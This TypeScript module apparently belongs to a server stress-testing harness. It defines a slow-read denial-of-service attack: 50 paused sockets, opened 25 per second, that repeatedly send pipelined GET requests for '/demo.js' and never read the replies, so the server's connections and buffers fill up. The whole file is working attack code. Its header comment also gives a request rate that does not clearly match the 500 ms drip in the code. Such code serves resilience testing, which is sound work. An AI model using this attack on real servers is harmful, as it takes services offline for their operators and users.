// 50 clients that never read an answer: each asks for 10 kB, 20 times per second.
import type { Attack } from '../attack';
import { drip, keepOpen, openSocket, requestHead } from '../sockets';

export const attack: Attack = (target, tally) => {
  const requests = requestHead('GET', '/demo.js', { host: target.host }).repeat(10);
  return (signal) =>
    keepOpen(
      () => {
        const socket = openSocket(target, target.port, tally).pause();
        drip(socket, requests, 500);
        return socket;
      },
      { count: 50, perSecond: 25 },
      signal,
    );
};
